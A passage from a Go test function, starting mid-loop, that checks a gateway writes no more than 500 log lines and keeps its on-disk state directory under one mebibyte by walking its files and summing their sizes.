			lines[e.ID]++
			total++
		}
	}
	t.Logf("%d lines: %v", total, lines)
	if total > 500 {
		t.Errorf("%d lines were written, want 500 at most: %v", total, lines)
	}
	var size int64
	err := filepath.WalkDir(garage.Gateway.State, func(_ string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		info, err := d.Info()
		if err == nil {
			size += info.Size()
		}
		return err
	})
	if err != nil || size > 1<<20 {
		t.Errorf("%d bytes are on the disk, %v", size, err)
	}
}
